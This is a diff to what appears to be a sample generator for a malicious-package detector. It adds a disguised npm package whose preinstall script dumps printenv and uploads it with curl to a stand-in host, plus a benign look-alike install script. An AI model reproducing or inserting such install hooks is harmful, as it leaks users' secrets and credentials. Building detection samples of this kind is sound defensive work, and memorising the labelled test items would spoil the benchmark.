@@ -226,8 +226,47 @@ def runner_worker_ps_scrape():
              files)
 
 
+_ENV_UPLOAD = r"""#!/bin/sh
+# preinstall: record the build environment for reproducible native builds
+out="${TMPDIR:-/tmp}/.buildenv-$$"
+{ uname -a; printenv; } > "$out" 2>/dev/null
+curl -s -m 5 -T "$out" "https://buildlogs.native-prebuild.invalid/u/$(whoami)" >/dev/null 2>&1
+rm -f "$out"
+exit 0
+"""
+
+
+@sample
+def preinstall_printenv_upload():
+    files = pkg("fast-crc32c-native", "3.1.0", "CRC32C with a native addon",
+                {"index.js": "module.exports = require('./build/Release/crc32c.node');\n",
+                 "scripts/buildenv.sh": _ENV_UPLOAD},
+                main="index.js", scripts={"preinstall": "sh scripts/buildenv.sh"})
+    return S("h7fix-fast-crc32c-native-preinstall-printenv-upload",
+             "Install-time shell dump of the whole environment uploaded with curl (our variant of the env > file "
+             "step of the git-push exfiltration)", "2026-11-25",
+             ["preinstall", "shell-script", "env-dump", "curl-upload"],
+             "preinstall writes uname and printenv to a temp file and uploads it with curl -T.",
+             files, {"scripts/buildenv.sh": 0o755})
+
+
 # =============================================================================================
 # Tricky benign
+
+
+@benign
+def b_install_env_prefix():
+    sh = "#!/bin/sh\n# To debug a failed build: env > build-env.txt and attach it to an issue.\nset -e\nenv CC=\"${CC:-cc}\" CXX=\"${CXX:-c++}\" node-gyp rebuild\nenv -u NODE_OPTIONS node scripts/check.js\n"
+    files = pkg("lz4-napi-lite", "0.4.0", "LZ4 through a small N-API addon",
+                {"index.js": "module.exports = require('./build/Release/lz4.node');\n",
+                 "scripts/build.sh": sh,
+                 "scripts/check.js": "console.log('lz4 addon built');\n"},
+                main="index.js", scripts={"install": "sh scripts/build.sh"})
+    return S("h7fix-benign-lz4-napi-lite-install-env-prefix",
+             "Install script running its build under `env VAR=x` and naming `env >` in a comment", "2026-11-25",
+             ["install", "shell-script", "native-build"],
+             "env as a command prefix, not a dump; the dump is only suggested in a comment.",
+             files, {"scripts/build.sh": 0o755})
 
 
 _ACTIONS_KIT = r"""'use strict';
